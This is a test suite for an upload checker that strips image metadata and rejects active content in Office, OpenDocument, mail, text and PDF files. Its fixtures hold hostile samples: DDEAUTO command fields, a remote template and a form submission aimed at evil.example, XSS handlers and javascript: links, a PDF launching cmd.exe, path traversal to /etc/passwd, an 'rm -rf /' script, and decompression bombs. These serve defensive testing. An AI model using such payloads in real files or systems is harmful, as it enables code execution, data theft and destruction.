import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { checkFile } from '../../../shared/documents/check/check-file.ts';
import { NotKept } from '../../../shared/documents/check/not-kept.ts';
import type { DocumentType } from '../../../shared/documents/document-types.ts';
import { exif, heic, jpeg, looseBox, mail, odt, office, pdf, png, zip } from './made-files.ts';

const types = {
  jpeg: 'image/jpeg',
  png: 'image/png',
  heic: 'image/heic',
  pdf: 'application/pdf',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  odt: 'application/vnd.oasis.opendocument.text',
  txt: 'text/plain',
  eml: 'message/rfc822',
} as const satisfies Record<string, DocumentType>;

const good = {
  jpeg: jpeg(),
  png: png(),
  heic: heic(),
  pdf: pdf(),
  docx: office('docx'),
  xlsx: office('xlsx'),
  odt: odt(),
  txt: Buffer.from('Fünf Fotos, größer als 1 MB.\r\nGrüße\n'),
  eml: mail(),
} as const;
type Sort = keyof typeof good;
const sorts = Object.keys(good) as Sort[];

/** What becomes of a file: `kept`, or the reason why not. */
async function outcome(bytes: Uint8Array, sort: Sort): Promise<string> {
  try {
    await checkFile(bytes, types[sort]);
    return 'kept';
  } catch (error) {
    if (!(error instanceof NotKept)) throw error;
    return error.reason;
  }
}

const kept = async (bytes: Uint8Array, sort: Sort): Promise<string> => Buffer.from(await checkFile(bytes, types[sort])).toString('latin1');

describe('a file', () => {
  it.each(sorts)('is kept as what it is: %s', async (sort) => {
    expect(await outcome(good[sort], sort)).toBe('kept');
  });

  it.each(sorts.flatMap((is) => sorts.filter((said) => said !== is).map((said) => [is, said] as const)))('that is %s is not taken for %s', async (is, said) => {
    // A mail is text, and may be sent as such.
    expect(await outcome(good[is], said)).toBe(is === 'eml' && said === 'txt' ? 'kept' : 'not-of-its-type');
  });

  it.each(sorts)('of a few bytes, or none, is no %s', async (sort) => {
    const few = [Buffer.alloc(0), Buffer.from([0]), Buffer.from([0xff, 0xd8])];
    for (const bytes of few) expect(await outcome(bytes, sort)).toBe(sort === 'txt' && bytes[0] !== 0 ? 'kept' : 'not-of-its-type');
  });

  it('never makes the check fail in another way than by a reason, whatever it holds and wherever it is cut', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...sorts), fc.nat(), fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 6 }), async (sort, length, changes) => {
        const bytes = Buffer.from(good[sort]).subarray(0, length % (good[sort].length + 1));
        for (const [at, value] of changes) if (bytes.length > 0) bytes[at % bytes.length] = value;
        expect(typeof (await outcome(bytes, sort))).toBe('string');
      }),
      { numRuns: 400 },
    );
  });

  it.each(['jpeg', 'png', 'heic', 'docx', 'odt'] as const)('that is cut off is not kept: %s', async (sort) => {
    expect(await outcome(good[sort].subarray(0, good[sort].length - 3), sort)).toBe('unreadable');
  });
});

const secret = 'GPS 50.9375 N, Zoes Telefon';

describe('a picture is kept without what is told of it', () => {
  it('JPEG: EXIF, XMP, IPTC, comments, makers’ data, thumbnails, and what is behind its end', async () => {
    const told = [
      [0xe1, `http://ns.adobe.com/xap/1.0/\0${secret}`],
      [0xed, secret],
      [0xfe, secret],
      [0xe5, secret],
      [0xe2, `MPF\0${secret}`],
      [0xf0, secret],
      [0xdf, secret],
    ] as const;
    const before = jpeg({ exif: exif({ text: secret }), extra: told, behind: secret });
    const after = await kept(before, 'jpeg');
    expect(after).not.toContain(secret);
    expect(after).not.toContain('abcdef');
    expect(after).not.toContain('Exif');
    expect(await kept(Buffer.from(after, 'latin1'), 'jpeg')).toBe(after);
    expect(
      await kept(
        jpeg({
          extra: [
            [0xe2, 'ICC_PROFILE\0\x01\x01colours'],
            [0xee, 'Adobe\0\x64\0\0\0\0\x01more'],
          ],
        }),
        'jpeg',
      ),
    ).toContain('colours');
  });

  it.each([1, 2, 3, 4, 5, 6, 7, 8].flatMap((orientation) => [true, false].map((little) => [orientation, little] as const)))(
    'JPEG: it is still turned as the camera said (%i, little-endian: %s)',
    async (orientation, little) => {
      const after = Buffer.from(await kept(jpeg({ exif: exif({ orientation, little, text: secret }) }), 'jpeg'), 'latin1');
      const at = after.indexOf('Exif\0\0');
      expect(at < 0 ? 1 : after.readUInt16BE(at + 6 + 18)).toBe(orientation);
      expect(after.includes(secret)).toBe(false);
    },
  );

  it('PNG: EXIF, texts, time, and whatever nobody knows', async () => {
    const extra = ['tEXt', 'zTXt', 'iTXt', 'tIME', 'prVt'].map((type) => [type, Buffer.from(secret)] as const);
    const after = await kept(png({ extra: [...extra, ['eXIf', exif({ orientation: 6, text: secret })], ['pHYs', Buffer.alloc(9)]], behind: secret }), 'png');
    expect(after).not.toContain(secret);
    expect(after).toContain('pHYs');
    const data = Buffer.from(after, 'latin1');
    expect(data.readUInt16BE(data.indexOf('eXIf') + 4 + 18)).toBe(6);
    expect(await kept(data, 'png')).toBe(after);
    expect(await outcome(png({ extra: [['ABCD', Buffer.from('x')]] }), 'png')).toBe('unreadable');
  });

  it.each([false, true])('HEIC: EXIF and XMP are zero, the picture is where it was (in idat: %s)', async (inIdat) => {
    const before = heic({
      told: [
        ['Exif', secret],
        ['mime', `<x:xmpmeta>${secret}`],
      ],
      inIdat,
      extra: [looseBox('uuid', Buffer.from(secret)), looseBox('free', Buffer.from(secret))],
    });
    const after = await kept(before, 'heic');
    expect(after).not.toContain(secret);
    expect(after).toHaveLength(before.length);
    expect(after.indexOf('PICTURE-DATA')).toBe(before.toString('latin1').indexOf('PICTURE-DATA'));
  });

  it('HEIC: what belongs to no picture is zero, and the picture is where it was', async () => {
    const after = await kept(heic({ unnamed: secret }), 'heic');
    expect([after.includes(secret), after.includes('PICTURE-DATA')]).toEqual([false, true]);
  });

  it.each(['moov', 'mpvd', 'sefd', 'abcd'])('HEIC: one with a box of another sort is not kept: %s', async (type) => {
    expect(await outcome(heic({ extra: [looseBox(type, Buffer.from(secret))] }), 'heic')).toBe('metadata-not-removable');
  });

  it.each(['udes', 'uuid', 'crtt', 'itai'])('HEIC: one with a property that tells something is not kept: %s', async (type) => {
    expect(await outcome(heic({ property: looseBox(type, Buffer.from(secret)) }), 'heic')).toBe('metadata-not-removable');
    expect(await outcome(heic({ property: looseBox('irot', Buffer.from([1])) }), 'heic')).toBe('kept');
  });

  it('HEIC: one whose parts lie where we do not follow is not kept', async () => {
    for (const strange of [heic({ told: [['Exif', secret]], method: 2 }), heic({ told: [['what', secret]] }), heic({ extra: [looseBox('moov')] })])
      expect(await outcome(strange, 'heic')).toBe('metadata-not-removable');
    expect(await outcome(heic({ brand: 'avif' }), 'heic')).toBe('not-of-its-type');
  });

  it('of more pixels than anybody can open is not kept', async () => {
    expect(await outcome(png({ width: 400_000_000 }), 'png')).toBe('unpacks-too-large');
    expect(await outcome(jpeg({ size: 65_535 }), 'jpeg')).toBe('unpacks-too-large');
    expect(await outcome(jpeg({ size: 0 }), 'jpeg')).toBe('unreadable');
  });
});

const rels = (type: string): string =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;

/** A prefix, an entity in a name's value, and a comment with an end of a tag in it. */
const spelledRels = `<p:Relationships xmlns:p="x"><!-- > --><p:Relationship Id='r' Type='http://x/relationships/attached&#84;emplate' Target='https://evil.example/t.dotm' TargetMode='Extern&#97;l'/></p:Relationships>`;

/** A text with another part of this type. */
const contentType = (type: string): Buffer => office('docx', [], `<Override PartName="/x.bin" ContentType="${type}"/>`);

describe('a document of Office', () => {
  it.each([
    ['a macro', office('docx', [{ name: 'word/vbaProject.bin', text: 'x' }]), 'active-content'],
    ['a control', office('xlsx', [{ name: 'xl/activeX/activeX1.xml', text: '<a/>' }]), 'active-content'],
    ['a program', office('docx', [{ name: 'word/media/image1.png', text: 'MZ\x90' }]), 'active-content'],
    ['a template from elsewhere', office('docx', [{ name: 'word/_rels/settings.xml.rels', text: rels('attachedTemplate') }]), 'active-content'],
    ['a link', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('hyperlink') }]), 'kept'],
    [
      'a field that asks a program, in pieces',
      office('docx', [
        {
          name: 'word/footer.xml',
          text: '<w:p><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd</w:instrText></w:r></w:p>',
        },
      ]),
      'active-content',
    ],
    [
      'a field whose words are written by number',
      office('docx', [{ name: 'word/footer.xml', text: '<w:instrText>D&#68;E cmd</w:instrText>' }]),
      'active-content',
    ],
    ['a field of another prefix', office('docx', [{ name: 'word/footer.xml', text: '<x:fldSimple x:instr="DDE cmd"/>' }]), 'active-content'],
    ['a template whose relationship is spelled otherwise', office('docx', [{ name: 'word/_rels/settings.xml.rels', text: spelledRels }]), 'active-content'],
    [
      'a relationship of two types',
      office('docx', [{ name: 'word/_rels/a.rels', text: `<r><Relationship Type="x/attachedTemplate" y:Type="x/image"/></r>` }]),
      'active-content',
    ],
    ['a relationship that nobody knows', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('newfangled') }]), 'active-content'],
    ['a picture on the web', office('docx', [{ name: 'word/_rels/document.xml.rels', text: rels('image') }]), 'kept'],
    [
      'a picture on somebody’s server',
      office('docx', [{ name: 'word/_rels/a.rels', text: rels('image').replace('https://evil', 'file://evil') }]),
      'active-content',
    ],
    ['a page that is read in', office('docx', [{ name: 'word/x.xml', text: '<w:altChunk r:id="a"/>' }]), 'active-content'],
    ['a part of a type that nobody knows', contentType('application/x-msdownload'), 'active-content'],
    ['a part with macros that is called otherwise', contentType('application/vnd.ms-office.vbaProject'), 'active-content'],
    ['XML in UTF-16', office('docx', [{ name: 'word/x.xml', text: Buffer.from('\ufeff<w:instrText>DDE cmd</w:instrText>', 'utf16le') }]), 'active-content'],
    ['XML that is none', office('docx', [{ name: 'word/x.xml', text: '<w:p><w:r></w:p>' }]), 'unreadable'],
    ['XML in letters that nobody need know', office('docx', [{ name: 'word/x.xml', text: '<?xml version="1.0" encoding="utf-7"?><w:p/>' }]), 'unreadable'],
    ['a field that asks a program', office('docx', [{ name: 'word/footer.xml', text: '<w:instrText> DDEAUTO cmd </w:instrText>' }]), 'active-content'],
    ['an entity', office('docx', [{ name: 'word/x.xml', text: '<!DOCTYPE x [<!ENTITY a "b">]>' }]), 'active-content'],
    ['an OLE container', office('docx', [{ name: 'word/embeddings/oleObject1.bin', text: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]), 'embedded-file'],
    ['the table of a chart', office('docx', [{ name: 'word/embeddings/table.xlsx', text: office('xlsx') }]), 'kept'],
    [
      'a table with a macro',
      office('docx', [{ name: 'word/embeddings/t.xlsx', text: office('xlsx', [{ name: 'xl/vbaProject.bin', text: 'x' }]) }]),
      'active-content',
    ],
    ['an archive', office('docx', [{ name: 'word/embeddings/a.zip', text: zip([{ name: 'a', text: 'b' }]) }]), 'embedded-file'],
    ['something encrypted', office('docx', [{ name: 'word/x.xml', text: 'x', encrypted: true }]), 'encrypted'],
    ['a way out of its folder', office('docx', [{ name: '../../etc/passwd', text: 'x' }]), 'unreadable'],
    ['more than it says', office('docx', [{ name: 'word/x.xml', text: 'x'.repeat(5000), claims: 10 }]), 'unreadable'],
    ['a bomb', office('docx', [{ name: 'word/x.xml', text: Buffer.alloc(60_000_000) }]), 'unpacks-too-large'],
    [
      'thousands of parts',
      office(
        'docx',
        Array.from({ length: 2_100 }, (_, index) => ({ name: `p${index}`, text: '' })),
      ),
      'unpacks-too-large',
    ],
  ])('with %s', async (_, bytes, expected) => {
    const sort = bytes.includes('spreadsheetml.sheet.main') && !bytes.includes('word/embeddings') ? 'xlsx' : 'docx';
    const first = await outcome(bytes, sort);
    expect(first === 'not-of-its-type' ? await outcome(bytes, sort === 'docx' ? 'xlsx' : 'docx') : first).toBe(expected);
  });

  const [microsoft, openXml, google] = ['http://schemas.microsoft.com/office', 'http://schemas.openxmlformats.org', 'http://customschemas.google.com'];
  const officeDocument = `${openXml}/officeDocument/2006/relationships`;
  /** What a producer writes beside the text: a relationship, the part to which it leads, and its type. */
  it.each([
    [
      'Word 365, of its checks',
      'docx',
      `${microsoft}/2020/10/relationships/intelligence`,
      'word/intelligence2.xml',
      'application/vnd.ms-office.intelligence2+xml',
    ],
    ['Word 365', 'docx', `${microsoft}/2020/10/relationships/intelligence2`, 'word/intelligence2.xml', 'application/vnd.ms-office.intelligence2+xml'],
    ['Word, of a picture with effects', 'docx', `${microsoft}/2007/relationships/hdphoto`, 'word/media/hdphoto1.wdp', 'image/vnd.ms-photo'],
    [
      'Word online',
      'docx',
      `${microsoft}/2011/relationships/people`,
      'word/people.xml',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml',
    ],
    [
      'Word online, labelled',
      'docx',
      `${microsoft}/2020/02/relationships/classificationlabels`,
      'docMetadata/LabelInfo.xml',
      'application/vnd.ms-office.classificationlabels+xml',
    ],
    ['Google Sheets', 'xlsx', `${google}/relationships/workbookmetadata`, 'xl/metadata', 'application/binary'],
    [
      'Google Docs',
      'docx',
      `${officeDocument}/fontTable`,
      'word/fontTable.xml',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml',
    ],
    [
      'LibreOffice',
      'docx',
      `${officeDocument}/custom-properties`,
      'docProps/custom.xml',
      'application/vnd.openxmlformats-officedocument.custom-properties+xml',
    ],
    ['Pages', 'docx', `${openXml}/package/2006/relationships/metadata/thumbnail`, 'docProps/thumbnail.jpeg', 'image/jpeg'],
  ] as const)('as it comes from %s is kept', async (_, sort, type, name, partType) => {
    const text = name.endsWith('xml') ? '<x/>' : 'x';
    const leads = { name: 'word/_rels/document.xml.rels', text: `<Relationships><Relationship Id="r" Type="${type}" Target="${name}"/></Relationships>` };
    expect(await outcome(office(sort, [leads, { name, text }], `<Override PartName="/${name}" ContentType="${partType}"/>`), sort)).toBe('kept');
  });

  it.each(['docx', 'xlsx', 'odt'] as const)('with a password is said to have one, and one of old Office is another type: %s', async (sort) => {
    const container = (name: string) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(name, 'utf16le')]);
    expect(await outcome(container('EncryptedPackage'), sort)).toBe('encrypted');
    expect(await outcome(container('WordDocument'), sort)).toBe('not-of-its-type');
  });

  it.each([
    ['Basic', odt([{ name: 'Basic/Standard/Module1.xml', text: '<script/>' }]), 'active-content'],
    ['an empty part, as LibreOffice writes it', odt([{ name: 'Configurations2/accelerator/current.xml', text: '' }]), 'kept'],
    ['a text from elsewhere', odt([{ name: 'x.xml', text: '<text:section-source xlink:href="file://evil/x"/>' }]), 'active-content'],
    ['a link to a program’s values', odt([{ name: 'x.xml', text: '<office:dde-source office:dde-application="cmd"/>' }]), 'active-content'],
    ['a script', odt([{ name: 'Scripts/python/a.py', text: 'x' }]), 'active-content'],
    ['an event', odt([{ name: 'styles.xml', text: '<script:event-listener script:language="ooo:script"/>' }]), 'active-content'],
    ['a password', odt([{ name: 'META-INF/manifest.xml', text: '<manifest:encryption-data/>' }]), 'encrypted'],
    ['a table instead of text', odt([], 'application/vnd.oasis.opendocument.spreadsheet'), 'not-of-its-type'],
  ])('of OpenDocument, with %s', async (_, bytes, expected) => {
    expect(await outcome(bytes, 'odt')).toBe(expected);
  });
});

/** One point of a bitmap, with its head. */
const bitmap = Buffer.concat([Buffer.from('BM'), Buffer.from([58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0]), Buffer.alloc(40)]);

describe('a mail', () => {
  const attached = (type: string, bytes: Buffer, name?: string): Buffer => mail({ parts: [{ type, bytes, ...(name !== undefined && { name }) }] });
  it.each([
    ['HTML', mail({ html: '<p>Guten Tag, <b>Paula</b> <a href="https://example.org">hier</a></p>' }), 'kept'],
    ['a script', mail({ html: '<p>x</p><script>alert(1)</script>' }), 'active-content'],
    ['data about what it is of', mail({ html: '<script type="application/ld+json">{"@type":"Order"}</script><p>x</p>' }), 'kept'],
    ['data, and a script', mail({ html: `<script type='application/ld+json'>{}</script><script>1</script>` }), 'active-content'],
    ['a script that calls itself data behind', mail({ html: '<script type="text/javascript" type="application/ld+json">1</script>' }), 'active-content'],
    ['a script that has data in its name', mail({ html: '<script type="application/ld+json;x">1</script>' }), 'active-content'],
    ['a handler in data', mail({ html: '<script type="application/ld+json">{}</script ><img src=x onerror=1>' }), 'active-content'],
    ['a scan', attached('image/tiff', Buffer.from('II*\0\x08\0\0\0'), 'scan.TIF'), 'kept'],
    ['a scan of the other order', attached('image/tiff', Buffer.from('MM\0*\0\0\0\x08'), 'scan.tiff'), 'kept'],
    ['a bitmap', attached('image/bmp', bitmap, 'image001.bmp'), 'kept'],
    ['a bitmap of another length than it says', attached('image/bmp', Buffer.concat([bitmap, Buffer.from([1])]), 'image001.bmp'), 'embedded-file'],
    ['a scan by another name', attached('image/tiff', Buffer.from('II*\0\x08\0\0\0'), 'scan.docx'), 'embedded-file'],
    ['a handler behind a quoted end of a tag', mail({ html: '<img title=">" onerror=alert(1)>' }), 'active-content'],
    ['a handler behind a slash', mail({ html: '<svg/onload=alert(1)>' }), 'active-content'],
    ['a handler in what looks like a comment', mail({ html: '<!--><img src=x onerror=alert(1)> -->' }), 'active-content'],
    ['words that look like one', mail({ html: '<p>Er kam on time = gut; https://example.org/online=1</p>' }), 'kept'],
    ['a picture with entities of its own', attached('image/svg+xml', Buffer.from('<!DOCTYPE svg [<!ENTITY a "b">]><svg/>')), 'active-content'],
    ['a handler', mail({ html: '<img src=x onerror=alert(1)>' }), 'active-content'],
    ['an address that is a program', mail({ html: '<a href="java&#115;cript:alert(1)">x</a>' }), 'active-content'],
    ['an attached page with a script', attached('text/html', Buffer.from('<html><script>1</script></html>')), 'active-content'],
    ['a page that says it is data', attached('application/octet-stream', Buffer.from('<!doctype html><script>1</script>')), 'active-content'],
    ['a photo', attached('image/jpeg', jpeg({ exif: exif() })), 'kept'],
    ['a logo', attached('image/gif', Buffer.from('GIF89a...')), 'kept'],
    ['a PDF', attached('application/pdf', pdf()), 'kept'],
    ['a PDF with a script', attached('application/pdf', pdf(['<< /S /JavaScript /JS (x) >>'])), 'active-content'],
    ['a table', attached('application/octet-stream', office('xlsx')), 'kept'],
    ['a document with a macro', attached('application/msword', office('docx', [{ name: 'word/vbaProject.bin', text: 'x' }])), 'active-content'],
    ['a program', attached('application/octet-stream', Buffer.from('MZ\x90\0')), 'active-content'],
    ['an archive', attached('application/zip', zip([{ name: 'a', text: 'b' }])), 'embedded-file'],
    ['a document of old Office', attached('application/msword', Buffer.from('d0cf11e0a1b11ae100', 'hex')), 'embedded-file'],
    ['what nobody knows', attached('application/octet-stream', Buffer.from([1, 2, 3, 0, 4])), 'embedded-file'],
    ['a program by its name', attached('text/plain', Buffer.from('WScript.Echo(1)'), 'rechnung.js'), 'active-content'],
    ['a program by its name, as Windows reads it', attached('text/plain', Buffer.from('x'), 'rechnung.bat. '), 'active-content'],
    ['a page that is called a picture', attached('image/gif', Buffer.from('GIF89a=1;<script>1</script>'), 'bild.html'), 'active-content'],
    ['a script far behind', attached('text/plain', Buffer.from(`${'x '.repeat(4000)}<script>1</script>`)), 'active-content'],
    ['a signature', attached('application/pkcs7-signature', Buffer.from([0x30, 0x82, 1, 2]), 'smime.p7s'), 'kept'],
    ['an archive that is called a signature', attached('application/pkcs7-signature', zip([{ name: 'a', text: 'b' }]), 'smime.p7s'), 'embedded-file'],
    ['a mail', attached('message/rfc822', mail()), 'kept'],
    ['a mail with a script', attached('message/rfc822', mail({ html: '<script>1</script>' })), 'active-content'],
    [
      'a mail in a mail in a mail',
      attached('message/rfc822', mail({ parts: [{ type: 'message/rfc822', bytes: attached('message/rfc822', mail()) }] })),
      'embedded-file',
    ],
    ['something locked away', attached('application/pkcs7-mime', Buffer.from('x')), 'encrypted'],
  ])('with %s', async (_, bytes, expected) => {
    expect(await outcome(bytes, 'eml')).toBe(expected);
  });
});

describe('text', () => {
  it.each([
    ['UTF-8', Buffer.from('Größe 😀\n'), 'kept'],
    ['Latin-1', Buffer.from('Größe', 'latin1'), 'kept'],
    ['UTF-16', Buffer.from('\ufeffGröße', 'utf16le'), 'kept'],
    ['half a sign of UTF-16', Buffer.from([0xff, 0xfe, 0x41]), 'not-of-its-type'],
    ['a zero', Buffer.from('a\0b'), 'not-of-its-type'],
    ['a program', Buffer.from('#!/bin/sh\nrm -rf /'), 'not-of-its-type'],
    ['rich text', Buffer.from('{\\rtf1 x}'), 'not-of-its-type'],
  ])('%s', async (_, bytes, expected) => {
    expect(await outcome(bytes, 'txt')).toBe(expected);
  });
});

/** Packed objects with a script, behind this after the word by which their stream begins. */
const streamBehind = (end: string): Buffer =>
  Buffer.from(
    pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: '9 0 << /S /JavaScript >>' }])
      .toString('latin1')
      .replace('>>\nstream\n', `>>\nstream${end}`),
    'latin1',
  );

describe('a PDF', () => {
  it.each([
    ['a page of text', pdf([{ dictionary: '/Filter /FlateDecode', stream: 'BT (Rechnung /JS) Tj ET' }]), 'kept'],
    ['a link', pdf(['<< /S /URI /URI (https://example.org) >>']), 'kept'],
    ['a link that is a program', pdf(['<< /S /URI /URI (javascript:alert\\(1\\)) >>']), 'active-content'],
    ['JavaScript', pdf(['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']), 'active-content'],
    ['JavaScript, spelled otherwise', pdf(['<< /S /J#61vaScri#70t /JS (x) >>']), 'active-content'],
    [
      'JavaScript among packed objects',
      pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: '9 0 << /S /JavaScript >>' }]),
      'active-content',
    ],
    [
      'JavaScript packed twice',
      pdf([{ dictionary: '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', stream: '<< /S /JavaScript >>', times: 2 }]),
      'active-content',
    ],
    [
      'packed objects whose dictionary is cut by its own words',
      pdf([{ dictionary: '/Type /ObjStm /First 4 /X ( obj) /Filter /LZWDecode', stream: 'x' }]),
      'unreadable',
    ],
    ['objects packed so as a filter elsewhere says', pdf([{ dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 9 0 R', stream: 'x' }]), 'unreadable'],
    ['objects whose packing is said elsewhere', pdf([{ dictionary: '/N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R', stream: 'x' }]), 'unreadable'],
    ['objects that say they are a picture', pdf([{ dictionary: '/Subtype /Image /Filter /FlateDecode', stream: '<< /S /JavaScript >>' }]), 'active-content'],
    ['objects of no type', pdf([{ dictionary: '/Type 9 0 R /N 1 /First 4 /Filter /RunLengthDecode', stream: 'x' }]), 'unreadable'],
    ['objects packed in a way that nobody looks into', pdf([{ dictionary: '/Type /ObjStm /Filter /LZWDecode', stream: 'x' }]), 'unreadable'],
    ...[' \n', '\t\r\n', '\0\n', '\r', ' \r'].map(
      (end) => [`objects whose stream begins behind ${JSON.stringify(end)}`, streamBehind(end), 'active-content'] as const,
    ),
    ['media that are played', pdf(['<< /S /Rendition /OP 0 >>']), 'active-content'],
    ['a script of what is embedded', pdf(['<< /OnInstantiate 9 0 R >>']), 'active-content'],
    ['a program to start', pdf(['<< /S /Launch /F (cmd.exe) >>']), 'active-content'],
    ['a form that sends itself', pdf(['<< /S /SubmitForm /F (https://evil.example) >>']), 'active-content'],
    ['a file', pdf(['<< /Type /EmbeddedFile >>']), 'embedded-file'],
    ['a password', pdf(['<< /Encrypt 5 0 R >>']), 'encrypted'],
    ['a bomb', pdf([{ dictionary: '/Filter /FlateDecode', stream: Buffer.alloc(70_000_000) }]), 'unpacks-too-large'],
    [
      'a white page as a picture',
      pdf([{ dictionary: '/Subtype /Image /Width 9000 /Height 7777 /Filter /FlateDecode', stream: Buffer.alloc(70_000_000, 255) }]),
      'kept',
    ],
    ['something before it', Buffer.concat([Buffer.from('<html>'), pdf()]), 'not-of-its-type'],
    ['no end', pdf().subarray(0, 60), 'unreadable'],
  ])('with %s', async (_, bytes, expected) => {
    expect(await outcome(bytes, 'pdf')).toBe(expected);
  });
});
